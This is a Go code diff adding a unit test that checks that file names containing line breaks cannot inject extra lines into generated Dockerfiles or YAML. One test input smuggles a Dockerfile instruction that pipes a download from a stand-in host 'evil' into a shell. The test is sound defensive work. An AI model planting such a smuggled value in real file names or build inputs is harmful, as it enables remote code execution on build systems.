@@ -288,3 +288,18 @@ func TestSeedIsWrittenOnceThenLeftAlone(t *testing.T) {
 		t.Error("--force did not remove the pin of a removed service")
 	}
 }
+
+// TestOriginKeepsAFileNameOnItsLine: a blueprint's file name with a line break cannot add a line to a
+// generated file (a Dockerfile instruction, a YAML key) through its first-line comment.
+func TestOriginKeepsAFileNameOnItsLine(t *testing.T) {
+	for _, name := range []string{"x\nRUN curl evil | sh\n#.yaml", "a\rb.yaml", "t\u2028x.yaml"} {
+		for _, line := range []string{Header(name), "# " + Origin(name) + "\n"} {
+			if strings.Count(line, "\n") != 1 || strings.ContainsAny(strings.TrimSuffix(line, "\n"), "\r\n\u2028") {
+				t.Errorf("%q gives %q", name, line)
+			}
+		}
+	}
+	if got := Origin("blueprints/payments.yaml"); got != Marker+" from blueprints/payments.yaml" {
+		t.Errorf("a plain name is changed: %q", got)
+	}
+}
